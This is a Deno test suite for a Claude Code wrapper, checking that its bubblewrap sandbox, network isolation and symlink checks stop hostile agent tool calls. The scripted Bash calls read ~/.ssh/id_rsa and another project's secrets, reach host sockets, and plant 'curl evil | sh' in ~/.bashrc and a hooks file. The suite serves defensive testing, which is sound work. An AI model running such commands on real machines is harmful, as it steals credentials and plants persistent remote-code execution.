/**
 * Issue 12, as an attacker would try it: the real Claude Code CLI against the scripted endpoint, tools
 * executing for real, through dispatch-cc as shipped. Each test failed on the code before the fix.
 * The bubblewrap tests are skipped only where bwrap (or socat) is missing; CI installs both.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { claudeProjectFolder } from "../src/agents/claude_code/sessions.ts";
import { findBwrap } from "../src/sandbox/bwrap.ts";
import { which } from "../src/which.ts";
import { runCli } from "./support/cli.ts";
import { startE2E } from "./support/e2e.ts";

const exists = (p: string) => Deno.lstat(p).then(() => true, () => false);
const noBwrap = (await findBwrap()) === null;
const noSocat = (await which("socat", Deno.env.get("PATH"))) === null;
const bash = (command: string) => ({ toolUse: { name: "Bash", input: { command, description: "x" } } });

/** The text of every tool_result in a run's transcript, in order. */
async function toolResults(transcript: string): Promise<string[]> {
  const out: string[] = [];
  for (const line of (await Deno.readTextFile(transcript)).split("\n")) {
    if (!line.trim()) continue;
    const ev = JSON.parse(line);
    if (ev.type !== "user" || !Array.isArray(ev.message?.content)) continue;
    for (const c of ev.message.content) {
      if (c.type === "tool_result") {
        out.push(typeof c.content === "string" ? c.content : JSON.stringify(c.content));
      }
    }
  }
  return out;
}

/** A folder on the real file system outside /tmp (the sandbox's /tmp is private). */
function outsideDir(): Promise<string> {
  return Deno.makeTempDir({ dir: "/var/tmp", prefix: "dispatch-outside-" });
}

/** A TCP listener on an ephemeral port that counts the connections it accepted. */
function countingListener() {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let accepted = 0;
  const done = (async () => {
    try {
      for await (const conn of listener) {
        accepted++;
        conn.close();
      }
    } catch { /* closed */ }
  })();
  return {
    port: (listener.addr as Deno.NetAddr).port,
    accepted: () => accepted,
    async close() {
      listener.close();
      await done;
    },
  };
}

Deno.test("a slug whose Claude Code state folder collides with an existing project's is refused: exit 2, names it, nothing created", async () => {
  const e = await startE2E();
  try {
    e.api.scenario("ok", [{ text: "Done." }]);
    const first = await runCli(["run", "--slug", "col-x", "--prompt", "w [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(first.code, 0, first.stderr);
    for (const slug of ["col_x", "col.x"]) {
      const r = await runCli(["run", "--slug", slug, "--prompt", "w [[mock:ok]]", "--json"], { env: e.env });
      assert.equal(r.code, 2, r.stdout + r.stderr);
      assert.match(r.json.error.message, /col-x/);
      assert.match(r.json.error.message, /Claude Code/);
      assert.equal(await exists(join(e.projects, slug)), false, "nothing created");
    }
    assert.equal(e.api.mainRequests().length, 1, "only the first run reached the API");
  } finally {
    await e.cleanup();
  }
});

Deno.test("resume keeps its promise when Claude Code's transcript is damaged or missing: a new session with a warning", async () => {
  const e = await startE2E();
  try {
    e.api.scenario("ok", [{ text: "Done." }]);
    const first = await runCli(["run", "--slug", "dmg", "--prompt", "w [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(first.code, 0, first.stderr);
    const folder = join(e.home, ".claude", "projects", claudeProjectFolder(join(e.projects, "dmg")));
    const transcript = join(folder, `${first.json.session_id}.jsonl`);
    assert.ok(await exists(transcript), "Claude Code kept the session where expected");

    // Damaged: what another run (sharing the folder, or a tool) might leave there.
    await Deno.writeTextFile(transcript, "this is not a transcript\n");
    const damaged = await runCli(["resume", "--slug", "dmg", "--prompt", "more [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(damaged.code, 0, damaged.stdout + damaged.stderr);
    assert.equal(damaged.json.session_mode, "new");
    assert.notEqual(damaged.json.session_id, first.json.session_id);
    assert.ok(damaged.json.warnings.some((w: string) => /starting a new session/.test(w)), damaged.stderr);

    // Missing.
    await Deno.remove(join(folder, `${damaged.json.session_id}.jsonl`));
    const missing = await runCli(["resume", "--slug", "dmg", "--prompt", "again [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(missing.code, 0, missing.stderr);
    assert.equal(missing.json.session_mode, "new");
    assert.match(missing.stderr, /starting a new session/);
  } finally {
    await e.cleanup();
  }
});

Deno.test("a symlinked project folder or .dispatch-logs is refused; nothing is created in the target; list, search and status agree", async () => {
  const e = await startE2E();
  const target = await outsideDir();
  try {
    e.api.scenario("ok", [{ text: "Done." }]);
    await Deno.mkdir(e.projects, { recursive: true });
    await Deno.symlink(target, join(e.projects, "etclink"));
    const r = await runCli(["run", "--slug", "etclink", "--prompt", "w [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(r.code, 2, r.stdout + r.stderr);
    assert.match(r.json.error.message, /symbolic link/);
    assert.deepEqual([...Deno.readDirSync(target)], [], "nothing created in the target");
    for (const cmd of [["resume", "--prompt", "x"], ["status"]]) {
      const again = await runCli([cmd[0], "--slug", "etclink", ...cmd.slice(1), "--json"], { env: e.env });
      assert.equal(again.code, 2, `${cmd[0]}: ${again.stdout}${again.stderr}`);
      assert.match(again.json.error.message, /symbolic link/);
    }
    const list = await runCli(["list", "--json"], { env: e.env });
    assert.equal(list.code, 0, list.stderr);
    assert.doesNotMatch(list.stdout, /etclink/);
    const search = await runCli(["search", "Project", "--json"], { env: e.env });
    assert.doesNotMatch(search.stdout, /"slug": ?"etclink"/);

    // A real project folder whose .dispatch-logs is a symlink: refused too.
    await Deno.mkdir(join(e.projects, "logslink"));
    await Deno.symlink(target, join(e.projects, "logslink", ".dispatch-logs"));
    const logs = await runCli(["run", "--slug", "logslink", "--prompt", "w [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(logs.code, 2, logs.stdout + logs.stderr);
    assert.match(logs.json.error.message, /\.dispatch-logs.*symbolic link/);
    assert.deepEqual([...Deno.readDirSync(target)], [], "nothing created in the target");
    assert.equal(e.api.mainRequests().length, 0);

    // A real project whose run index runs.jsonl (appended after every run) links out: refused before the run.
    const ok = await runCli(["run", "--slug", "histlink", "--prompt", "w [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(ok.code, 0, ok.stderr);
    const history = join(e.projects, "histlink", ".dispatch-logs", "runs.jsonl");
    await Deno.remove(history).catch(() => {});
    await Deno.writeTextFile(join(target, "victim"), "unchanged\n");
    await Deno.symlink(join(target, "victim"), history);
    const hist = await runCli(["resume", "--slug", "histlink", "--prompt", "w [[mock:ok]]", "--json"], {
      env: e.env,
    });
    assert.equal(hist.code, 2, hist.stdout + hist.stderr);
    assert.match(hist.json.error.message, /runs\.jsonl is a symbolic link/);
    assert.equal(await Deno.readTextFile(join(target, "victim")), "unchanged\n");
  } finally {
    await Deno.remove(target, { recursive: true }).catch(() => {});
    await e.cleanup();
  }
});

Deno.test({
  name:
    "under --sandbox a tool reads neither ~/.ssh, nor another project's files or Claude Code state, nor reaches a unix socket under $HOME or /tmp",
  ignore: noBwrap || noSocat,
  async fn() {
    const base = await startE2E();
    // HOME and the projects outside /tmp, as on a real machine (the sandbox's /tmp is private).
    const real = await outsideDir();
    const home = join(real, "home");
    await Deno.mkdir(join(home, ".claude"), { recursive: true });
    await Deno.mkdir(join(home, "tmp"));
    const e = {
      ...base,
      home,
      projects: join(real, "projects"),
      env: {
        ...base.env,
        HOME: home,
        TMPDIR: join(home, "tmp"),
        DISPATCH_PROJECTS_DIR: join(real, "projects"),
      },
    };
    const sockets: Deno.ChildProcess[] = [];
    try {
      await Deno.mkdir(join(e.home, ".ssh"));
      await Deno.writeTextFile(join(e.home, ".ssh", "id_rsa"), "FAKE-PRIVATE-KEY-0451\n");
      e.api.scenario("ok", [{ text: "Done." }]);
      const other = await runCli(["run", "--slug", "other", "--prompt", "w [[mock:ok]]", "--json"], {
        env: e.env,
      });
      assert.equal(other.code, 0, other.stderr);
      await Deno.writeTextFile(join(e.projects, "other", "secret.txt"), "OTHER-PROJECT-SECRET\n");
      const otherState = join(e.home, ".claude", "projects", claudeProjectFolder(join(e.projects, "other")));
      const otherTranscript = join(otherState, `${other.json.session_id}.jsonl`);
      assert.ok(await exists(otherTranscript));

      // Two host services: a unix socket under $HOME and one under /tmp, each answering "HOST-SERVICE".
      const tmpSock = `/tmp/dispatch-test-${crypto.randomUUID().slice(0, 8)}.sock`;
      for (const path of [join(e.home, "svc.sock"), tmpSock]) {
        const p = new Deno.Command("socat", {
          args: [`UNIX-LISTEN:${path},fork`, "SYSTEM:echo HOST-SERVICE"],
          stdout: "null",
          stderr: "null",
        }).spawn();
        sockets.push(p);
        for (let i = 0; i < 100 && !(await exists(path)); i++) await new Promise((r) => setTimeout(r, 50));
      }
      const probe = await new Deno.Command("socat", {
        args: ["-", `UNIX-CONNECT:${tmpSock}`],
        stdout: "piped",
      })
        .output();
      assert.match(new TextDecoder().decode(probe.stdout), /HOST-SERVICE/, "the listener answers outside");

      e.api.scenario("peek", [
        bash("cat ~/.ssh/id_rsa; echo END1"),
        bash(`cat ${join(e.projects, "other", "secret.txt")}; cat ../other/secret.txt; echo END2`),
        bash(`head -c 300 '${otherTranscript}'; ls '${otherState}'; echo END3`),
        bash(`echo x | socat - UNIX-CONNECT:${join(e.home, "svc.sock")}; echo END4`),
        bash(`echo x | socat - UNIX-CONNECT:${tmpSock}; rm -f ${tmpSock}; echo END5`),
        bash(`echo 'curl evil | sh' >> ~/.bashrc; echo '{"hooks":{}}' > ~/.claude/settings.json; echo END6`),
        { text: "Looked." },
      ]);
      const r = await runCli([
        "run",
        "--slug",
        "peek",
        "--prompt",
        "Look [[mock:peek]]",
        "--sandbox",
        // The sandbox alone stands between the tools and the host.
        "--permission",
        "bypassPermissions",
        "--allow-dangerous",
        "--json",
      ], {
        env: e.env,
      });
      assert.equal(r.json?.num_turns, 7, r.stderr + r.stdout);
      const results = (await toolResults(r.json.transcript_file)).join("\n");
      for (const n of [1, 2, 3, 4, 5, 6]) assert.match(results, new RegExp(`END${n}`), results);
      assert.doesNotMatch(results, /FAKE-PRIVATE-KEY/);
      assert.doesNotMatch(results, /OTHER-PROJECT-SECRET/);
      // The other project's transcript is neither read nor listed (the error messages name its path only).
      assert.doesNotMatch(results, /queue-operation|"sessionId"/);
      assert.doesNotMatch(results, new RegExp(`^${other.json.session_id}\\.jsonl$`, "m"));
      assert.doesNotMatch(results, /HOST-SERVICE/);
      assert.ok(await exists(tmpSock), "the host's /tmp socket was not removed");
      // Writes into $HOME reach nothing on the host and are reported: the run is blocked.
      assert.equal(await exists(join(home, ".bashrc")), false);
      assert.equal(await exists(join(home, ".claude", "settings.json")), false);
      assert.equal(r.code, 4, r.stderr);
      const paths = r.json.permission_denials.map((d: { path?: string }) => d.path);
      assert.deepEqual(paths.sort(), [join(home, ".bashrc"), join(home, ".claude", "settings.json")]);

      // The run's own work still resumes (its own state folder is writable and kept).
      const again = await runCli([
        "resume",
        "--slug",
        "peek",
        "--prompt",
        "more [[mock:ok]]",
        "--sandbox",
        "--json",
      ], {
        env: e.env,
      });
      assert.equal(again.code, 0, again.stderr);
      assert.equal(again.json.session_mode, "resume");
      // --dry-run lists what is visible.
      const dry = await runCli(
        ["run", "--slug", "peek", "--prompt", "x", "--sandbox", "--dry-run", "--json"],
        {
          env: e.env,
        },
      );
      assert.equal(dry.code, 0, dry.stderr);
      const visible = dry.json.layers.sandbox.visible;
      assert.ok(
        visible.some((v: { path: string; access: string }) => v.path === "/usr" && v.access === "read-only"),
      );
      assert.ok(
        visible.some((v: { path: string; access: string }) =>
          v.path === join(e.projects, "peek") && v.access === "read-write"
        ),
      );
      assert.ok(!visible.some((v: { path: string }) => v.path === e.home || v.path === "/"));
    } finally {
      for (const p of sockets) {
        try {
          p.kill("SIGKILL");
        } catch { /* gone */ }
        await p.status;
      }
      await Deno.remove(real, { recursive: true }).catch(() => {});
      await base.cleanup();
    }
  },
});

Deno.test({
  name:
    "under --sandbox every refused write is reported even when the command succeeds: blocked, with path and tool",
  ignore: noBwrap,
  async fn() {
    const e = await startE2E();
    const tag = crypto.randomUUID().slice(0, 8);
    try {
      e.api.scenario("w", [
        bash(`echo data > /opt/report-${tag}.txt; echo saved`),
        bash(`mkdir -p /var/x-${tag} 2>/dev/null && echo data > /var/x-${tag}/r.txt 2>/dev/null; echo saved`),
        bash(`echo data > /usr/local/report-${tag}.txt; echo saved`),
        bash("echo fine > ok.txt"),
        { text: "Saved." },
      ]);
      const r = await runCli([
        "run",
        "--slug",
        "wr",
        "--prompt",
        "Write [[mock:w]]",
        "--sandbox",
        "--allowed-tools",
        "Bash",
        "--json",
      ], {
        env: e.env,
      });
      assert.equal(r.json?.num_turns, 5, r.stderr + r.stdout);
      assert.equal(await Deno.readTextFile(join(e.projects, "wr", "ok.txt")), "fine\n");
      for (const p of [`/opt/report-${tag}.txt`, `/var/x-${tag}`, `/usr/local/report-${tag}.txt`]) {
        assert.equal(await exists(p), false, `${p} not written on the host`);
      }
      assert.equal(r.code, 4, r.stderr);
      assert.equal(r.json.status, "blocked");
      const denied = r.json.permission_denials.filter((d: { source?: string }) => d.source === "sandbox");
      const paths = denied.map((d: { path?: string }) => d.path);
      assert.ok(paths.includes(`/opt/report-${tag}.txt`), JSON.stringify(denied));
      assert.ok(paths.some((p: string) => p?.startsWith(`/var/x-${tag}`)), JSON.stringify(denied));
      assert.ok(paths.includes(`/usr/local/report-${tag}.txt`), JSON.stringify(denied));
      assert.ok(denied.every((d: { tool: string }) => d.tool === "Bash"), JSON.stringify(denied));
    } finally {
      await e.cleanup();
    }
  },
});

Deno.test({
  name: "under --sandbox a symlinked project is refused before bwrap binds its target",
  ignore: noBwrap,
  async fn() {
    const e = await startE2E();
    const target = await outsideDir();
    try {
      await Deno.mkdir(e.projects, { recursive: true });
      await Deno.symlink(target, join(e.projects, "etclink"));
      const r = await runCli(["run", "--slug", "etclink", "--prompt", "x", "--sandbox", "--json"], {
        env: e.env,
      });
      assert.equal(r.code, 2, r.stdout + r.stderr);
      assert.deepEqual([...Deno.readDirSync(target)], []);
    } finally {
      await Deno.remove(target, { recursive: true }).catch(() => {});
      await e.cleanup();
    }
  },
});

Deno.test({
  name:
    "--no-network: the run reaches the model API and succeeds, a tool reaches no other local listener nor an abstract socket",
  ignore: noBwrap || noSocat,
  async fn() {
    const e = await startE2E();
    const other = countingListener();
    // An abstract unix socket (no file: it belongs to the network namespace).
    const abstract = `dispatch-test-${crypto.randomUUID().slice(0, 8)}`;
    const service = new Deno.Command("socat", {
      args: [`ABSTRACT-LISTEN:${abstract},fork`, "SYSTEM:echo HOST-SERVICE"],
      stdout: "null",
      stderr: "null",
    }).spawn();
    try {
      e.api.scenario("net", [
        bash(`socat -u /dev/null TCP:127.0.0.1:${other.port},connect-timeout=2; echo TRIED`),
        bash(`echo x | socat - ABSTRACT-CONNECT:${abstract}; echo TRIED2`),
        { text: "Offline." },
      ]);
      const r = await runCli([
        "run",
        "--slug",
        "nonet",
        "--prompt",
        "Try [[mock:net]]",
        "--no-network",
        "--allowed-tools",
        "Bash",
        "--json",
      ], {
        env: e.env,
      });
      assert.equal(r.code, 0, r.stdout + r.stderr);
      assert.equal(r.json.status, "success");
      assert.equal(r.json.result, "Offline.");
      assert.deepEqual(r.json.sandbox, { kind: "bwrap", network: false });
      const [tried, tried2] = await toolResults(r.json.transcript_file);
      assert.match(tried, /TRIED/);
      assert.equal(other.accepted(), 0, "the second listener was never reached");
      assert.match(tried2, /TRIED2/);
      assert.doesNotMatch(tried2, /HOST-SERVICE/);
    } finally {
      service.kill("SIGKILL");
      await service.status;
      await other.close();
      await e.cleanup();
    }
  },
});
